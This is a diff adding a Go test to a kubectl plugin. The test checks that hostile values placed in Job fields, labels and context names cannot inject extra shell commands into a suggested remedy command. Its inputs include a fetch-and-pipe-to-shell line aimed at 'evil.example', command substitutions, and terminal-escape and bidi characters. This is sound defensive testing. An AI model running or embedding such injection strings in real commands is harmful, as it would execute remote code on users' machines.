@@ -1,0 +1,42 @@
+package plan_test
+
+import (
+	"errors"
+	"testing"
+
+	"gotest.tools/v3/assert"
+
+	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
+	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/dispatch/plan"
+)
+
+// TestHostileRefusals: whatever somebody has written on a Job, what a refusal says is to
+// be run is one command, in the context that was meant.
+func TestHostileRefusals(t *testing.T) {
+	for _, evil := range []string{"; curl evil.example|sh #", "$(touch x)", "`touch x`", "it's\n", "--as=evil", "\x1b[2J\u202e", "example.com/a;b'c`d&e"} {
+		for _, tt := range []struct {
+			edit  edit
+			owner delegation.Owner
+		}{
+			{edit{"spec.managedBy", evil}, delegation.Dispatch},
+			{edit{"metadata.labels", map[string]any{delegation.OriginUIDLabel: evil}}, delegation.Dispatch},
+			{edit{"metadata.labels", map[string]any{delegation.MultiKueueOriginLabel: evil}}, delegation.Dispatch},
+			{edit{"spec.managedBy", nil}, delegation.Owner("example.com/" + evil)},
+			{edit{"spec.template.spec.nodeName", evil}, delegation.Dispatch},
+		} {
+			_, err := plan.New(originJob(t, tt.edit), plan.Options{Context: evil, Owner: tt.owner})
+			var refused *plan.RefusedError
+			if !errors.As(err, &refused) {
+				continue
+			}
+			for _, part := range refused.Remedy.Parts() {
+				if part.IsCommand {
+					assert.DeepEqual(t, shelltest.Words(t, part.Text), []string{
+						"kubectl", "jobs-managedby", "recreate", "train-28391", "-n", "ml", "--context", evil, "--managed-by", string(tt.owner),
+					})
+				}
+			}
+		}
+	}
+}
